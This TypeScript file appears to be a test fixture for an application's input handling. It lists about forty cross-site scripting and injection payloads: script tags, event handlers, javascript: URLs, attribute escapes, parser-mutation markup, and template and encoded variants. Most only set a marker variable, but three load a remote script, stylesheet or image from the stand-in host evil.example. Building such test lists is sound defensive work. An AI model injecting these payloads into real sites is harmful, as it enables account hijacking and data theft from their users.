// Injection payloads for markup, URLs and templates. Most of them set `window.__x` when they run.

/** Forty texts of at most 60 characters, each of which members may write. */
export const payloads: readonly string[] = [
  // Elements that run scripts.
  '<script>__x=1</script>',
  '<ScRiPt src=data:,__x=1></sCrIpT>',
  '<script src=//evil.example/x.js></script>',
  '<scr<script>ipt>__x=1</scr</script>ipt>',
  '<svg><script>__x=1</script></svg>',
  // Event handlers.
  '<img src=x onerror=__x=1>',
  '<img/src=x/onerror=__x=1>',
  '<svg onload=__x=1>',
  '<svg><animate onbegin=__x=1 attributeName=x dur=1s>',
  '<body onload=__x=1>',
  '<input autofocus onfocus=__x=1>',
  '<details open ontoggle=__x=1>',
  '<video><source onerror=__x=1></video>',
  '<b onpointerenter=__x=1>Elmwood</b>',
  // Frames.
  '<iframe srcdoc="<script>parent.__x=1</script>"></iframe>',
  '<iframe src=javascript:parent.__x=1></iframe>',
  '<object data="data:text/html,<script>__x=1</script>">',
  // URLs.
  'javascript:__x=1',
  'JaVaScRiPt://%0a__x=1',
  'data:text/html,<script>parent.__x=1</script>',
  '<a href=javascript:__x=1>tap</a>',
  // Escapes from an attribute, an element, a comment, a script.
  '"><img src=x onerror=__x=1>',
  `' onmouseover='__x=1`,
  '" autofocus onfocus="__x=1',
  '</title><img src=x onerror=__x=1>',
  '</textarea></style><svg onload=__x=1>',
  '--><img src=x onerror=__x=1>',
  ']]><svg onload=__x=1>',
  '{"a":"</script><script>__x=1</script>"}',
  // Markup that a parser repairs into other markup.
  '<math><mtext><table><mglyph><style><img src=x onerror=__x=1>',
  '<noscript><p title="</noscript><img src=x onerror=__x=1>">',
  '<template><img src=x onerror=__x=1></template>',
  // Style.
  '<style>@import"//evil.example/x";</style>',
  '<p style="background:url(//evil.example/c)">',
  // Templates and markdown.
  '${__x=1}{{__x=1}}<%= __x=1 %>',
  '[tap](javascript:__x=1) ![x](x"onerror="__x=1)',
  // Encoded.
  '&lt;img src=x onerror=__x=1&gt;',
  '%3Cimg%20src=x%20onerror=__x=1%3E',
  '\\u003cimg src=x onerror=__x=1\\u003e',
  '＜img src=x onerror=__x=1＞\uFFFE',
];

/** Texts that every form refuses, because they contain invisible characters. */
export const unreadable: readonly string[] = [
  '<img src=x\u0000 onerror=__x=1>',
  '<a href="java\u0001script:__x=1">tap</a>',
  'tap\u202E<gpj.x=1>',
];

/** Closes every attribute, comment and element that may be open. */
const closing = `"'>--></title></style></textarea></noscript></script></template></svg></math> `;

/** All payloads in one text, for fields that exist only once. It starts with a URL. */
export const allPayloads: string = [
  'javascript:__x=1//',
  ...payloads.map((payload) => closing + payload),
].join('');
